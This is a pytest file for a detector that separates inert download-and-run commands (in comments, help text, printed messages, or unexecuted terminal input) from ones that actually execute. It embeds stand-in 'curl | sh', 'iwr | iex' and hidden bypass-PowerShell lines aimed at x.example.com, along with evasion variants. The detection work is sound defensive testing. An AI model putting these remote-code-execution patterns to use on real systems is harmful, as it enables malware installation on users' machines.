"""Commands that nothing runs: comments, help, printed texts, and texts that are only typed."""

import pytest

from tests.offline import found

LOAD = "iwr https://x.example.com/i.ps1 | iex"
PIPE = "curl -fsSL https://x.example.com/i.sh | sh"
HIDDEN = f'powershell -w hidden -ep bypass -c "{LOAD}"'


@pytest.mark.parametrize(
    ("name", "text"),
    [
        # Comments and help of PowerShell.
        ("a.ps1", f"<#\n.EXAMPLE\n  PS> {LOAD}\n#>\nparam($a)\n"),
        (
            "a.ps1",
            f"function A {{\n  <#\n  .SYNOPSIS\n  .EXAMPLE\n  {HIDDEN}\n  #>\n  Get-Item .\n}}\n",
        ),
        ("a.psm1", f"# Copyright\n\n<# Run:\n{LOAD}\n#>\nfunction A {{}}\n"),
        ("a.ps1", f"$x = 1 # or {LOAD}\n"),
        ("a.ps1", f"$x = 'it''s' # {LOAD}\n"),
        # What it prints.
        ("a.ps1", f"Write-Host 'To install: {LOAD}'\n"),
        ("a.ps1", f'if ($x) {{ Write-Warning -Message "Run: {LOAD}" }}\n'),
        ("a.ps1", f"throw 'Run {PIPE} first'\n"),
        ("a.ps1", f"$help = @'\nInstall with:\n  {LOAD}\n'@\nWrite-Host $help\n"),
        # Shells.
        ("a.sh", f"#!/bin/sh\nprintf '{PIPE}\\n'\n"),
        ("a.sh", f'#!/bin/sh\necho "Please run: {PIPE}" >&2\n'.replace(" >&2", "")),
        ("a", f"#!/usr/bin/env bash\nset -e  # {PIPE}\n"),
        ("a.sh", f"cat <<EOF\nUsage:\n  {PIPE}\nEOF\n"),
        ("a.sh", f"cat >&2 <<'EOF'\n  {PIPE}\nEOF\nexit 1\n"),
        ("a.bat", f"@echo off\n@rem {HIDDEN}\n"),
        ("a.cmd", f":: {PIPE}\nREM {HIDDEN}\n@echo {PIPE}\n"),
        # A terminal that waits for the user's return key.
        ("a.js", f"term.sendText('{PIPE}', false);"),
        ("a.js", f't.show();t.sendText("{PIPE}",!1)'),
        ("a.js", f"terminal.sendText(`{LOAD}`, /* shouldExecute */ false);"),
        ("a.js", f"window.createTerminal('x').sendText('powershell -c \"{LOAD}\"', false)"),
    ],
)
def test_what_nothing_runs_is_not_found(name: str, text: str) -> None:
    assert found(text, name) == {}


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.ps1", f"<# help #>\n{LOAD}\n"),
        ("a.ps1", f"$a = '<#'\n{LOAD}\n$b = '#>'\n"),
        ("a.ps1", f"$a = @'\n<#\n'@\n{LOAD}\n$b = @'\n#>\n'@\n"),
        ("a.ps1", f'$a = "`"<#"\n{LOAD} #>\n'),
        ("a.ps1", f'$a = """<#"\n{LOAD} #>\n'),
        ("a.ps1", f'$a = "$b <#"\n{LOAD} #>\n'),
        ("a.ps1", f'$a = "$b #"; {LOAD}\n'),
        ("a.ps1", f'$a = @"\n$b <#\n"@\n{LOAD} #>\n'),
        ("a.ps1", f"Write-Output '{LOAD}' | iex\n"),
        ("a.ps1", f'Write-Host "$({LOAD})"\n'),
        ("a.ps1", f"$c = @'\n{LOAD}\n'@\niex $c\n"),
        ("a.ps1", f"$c = @'\n{LOAD}\n'@\n& ([scriptblock]::Create($c))\n"),
        ("a.sh", f"echo hello && {PIPE}\n"),
        ("a.sh", f"printf 'x'; {PIPE}\n"),
        ("a.sh", f"printf '{PIPE}' | sh\n"),
        ("a.sh", f"echo ${{x#y}} ; {PIPE}\n"),
        ("a.sh", f"cat <<EOF | sh\n{PIPE}\nEOF\n"),
        ("a.sh", f"cat <<EOF\nhello\nEOF\n{PIPE}\n"),
        ("a.sh", f"cat <<EOF\n$({PIPE})\nEOF\n"),
        ("a.bat", f"@echo off\n{HIDDEN}\n"),
        ("a.js", f"term.sendText('{PIPE}', true);"),
        ("a.js", f"term.sendText('{PIPE}');"),
        ("a.js", f"term.sendText('{PIPE}\\n', false);"),
        ("a.js", f"term.sendText('{PIPE}', false); term.sendText('');"),
        ("a.js", f"term.sendText('{PIPE}', false); term.sendText('\\r', false);"),
        (
            "a.js",
            f"t.sendText('{PIPE}', false); vscode.commands.executeCommand(SEQUENCE, x)".replace(
                "SEQUENCE", "'workbench.action.terminal.sendSequence'"
            ),
        ),
    ],
)
def test_what_runs_is_found(name: str, text: str) -> None:
    assert found(text, name).keys() & {"runs-remote-code", "hidden-powershell"}
